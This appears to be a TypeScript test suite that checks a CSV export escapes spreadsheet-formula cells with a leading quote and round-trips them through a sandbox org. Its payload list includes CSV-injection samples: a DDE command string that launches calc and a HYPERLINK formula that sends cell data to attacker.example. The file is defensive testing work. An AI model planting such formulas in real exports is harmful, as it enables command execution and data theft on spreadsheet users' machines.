/**
 * Exported CSV cells that a spreadsheet would run as a formula are neutralised with a leading `'`, and
 * the escape reads back exactly (docs/plan-format.md, "Spreadsheet formulas"): a model holding formula
 * payloads is imported to CSV, no cell of that file starts a formula, and publishing the file back writes
 * nothing while the org keeps every value byte for byte.
 */
import Papa from 'papaparse';
import { importModel } from '../../lib';
import { neutraliseFormula, parseCsv, restoreFormula, rowsToCsv } from '../../lib/plan';
import { startEngineOrg, type EngineOrg } from '../helpers/engine-org';

/** What spreadsheets take for a formula when a cell starts with it (OWASP, "CSV Injection"). */
const FORMULA_START = /^[=+\-@\t\r\0]/;

const PAYLOADS = [
	"=cmd|' /C calc'!A0",
	'@SUM(1+1)',
	'+1',
	'-West',
	"'quoted",
	"''=x",
	"'=already quoted",
	"'",
	"''",
	'-12.5',
	'- first bullet\n- second bullet',
	'=HYPERLINK("http://attacker.example/?"&A1,"x")',
	'\tTabbed',
	'\rCarriage',
	'plain = text - with + signs @ inside',
];

describe('neutraliseFormula / restoreFormula', () => {
	it.each(PAYLOADS)('%j: the written cell starts no formula and reads back exactly', (value) => {
		const written = neutraliseFormula(value);
		expect(FORMULA_START.test(written)).toBe(false);
		expect(restoreFormula(written)).toBe(value);
	});

	it('leaves ordinary cells alone both ways', () => {
		for (const value of ['West', "O'Brien", "'quoted", '', '94*', 'a=b']) {
			expect(neutraliseFormula(value)).toBe(value);
			expect(restoreFormula(value)).toBe(value);
		}
	});

	it('rowsToCsv → parseCsv is exact for every payload, whatever the delimiter', () => {
		const rows = PAYLOADS.map((p, i) => ({ Territory: `T${i}`, Key: `T${i}`, Description: p }));
		for (const delimiter of [',', ';', '\t'] as const) {
			const csv = rowsToCsv(rows, ['Territory', 'Key', 'Description'], { delimiter });
			const cells = Papa.parse<string[]>(csv, { delimiter }).data.flat();
			expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
			expect(parseCsv(csv).rows.map((r) => r.Description)).toEqual(PAYLOADS);
		}
	});

	it('reads a hand-made sheet that prefixes formulas with one quote as the text behind it', () => {
		const { rows } = parseCsv("Territory,Description\nWest,'=1+1\nEast,'-5 % growth\n");
		expect(rows.map((r) => r.Description)).toEqual(['=1+1', '-5 % growth']);
	});
});

describe('Import → CSV → Publish with formula payloads, through the sandbox org', () => {
	let org: EngineOrg;
	beforeAll(async () => {
		org = await startEngineOrg();
	});
	afterAll(async () => org?.stop());

	// The plan parser trims cells (edge white space is never meant), so a leading tab or CR cannot reach the
	// org: those payloads are checked at the CSV level above. Names are single-line.
	const texts = PAYLOADS.filter((p) => p.trim() === p);
	const names = texts.filter((p) => !p.includes('\n') && p.length >= 2);
	const rows = [
		{ Territory: 'Formulas', Key: 'Formulas', Type: 'Region', Description: '=cmd|\' /C calc\'!A0' },
		...names.map((name, i) => ({ Territory: name, Key: `F${i}`, Parent: 'Formulas', Type: 'Territory', Description: texts[(i + 5) % texts.length] })),
		{ Territory: 'Bullets', Key: 'Bullets', Parent: 'Formulas', Type: 'Territory', Description: '- first bullet\n- second bullet' },
	];

	it('publishes them, imports a CSV in which no cell starts a formula, and the CSV publishes back with no write', async () => {
		const first = await org.publish({ plan: { rows }, model: { developerName: 'Formulas', name: 'Formulas' } });
		expect(first.issues).toEqual([]);
		const stored = org.model('Formulas').territories;
		for (const row of rows) {
			const record = stored.find((t) => t.DeveloperName === row.Key);
			expect([record?.Name, record?.Description]).toEqual([row.Territory, row.Description]);
		}

		const imported = await importModel({ connection: org.connection, model: { developerName: 'Formulas' } });
		const cells = Papa.parse<string[]>(imported.csv).data.flat();
		expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
		// The neutralising quote is in the file, not in the rows Import returns.
		expect(cells).toContain("'=cmd|' /C calc'!A0");
		expect(cells).toContain("'''=x");
		const byKey = new Map(imported.rows.map((r) => [r.Key, r]));
		for (const row of rows) expect([byKey.get(row.Key)?.Territory, byKey.get(row.Key)?.Description]).toEqual([row.Territory, row.Description]);

		const before = org.dump();
		const back = await org.publish({ plan: { csv: imported.csv }, model: { developerName: 'Formulas' } });
		expect(back.issues).toEqual([]);
		expect(org.changesSince(before)).toEqual([]);
		expect(parseCsv(imported.csv).rows.map((r) => [r.Territory, r.Description])).toEqual(imported.rows.map((r) => [r.Territory, r.Description]));
	});
});
